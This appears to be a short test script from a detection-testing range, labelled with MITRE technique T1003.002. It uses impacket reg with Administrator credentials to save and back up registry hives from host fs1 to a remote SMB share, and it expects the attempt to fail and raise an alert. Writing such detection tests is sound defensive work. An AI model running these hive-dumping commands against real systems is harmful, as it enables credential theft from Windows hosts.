# SPDX-License-Identifier: Apache-2.0
# what: hives of fs1 saved to files with impacket reg; Samba refuses
# technique: T1003.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: alert rpc
. "$RANGE_HERE/item.sh"
impacket reg "CORP/Administrator:$ADMIN_PASSWORD@$fs1" save -keyName 'HKLM\SOFTWARE' -o '\\10.77.0.31\x'
impacket reg "CORP/Administrator:$ADMIN_PASSWORD@$fs1" backup -o '\\10.77.0.31\x'
true
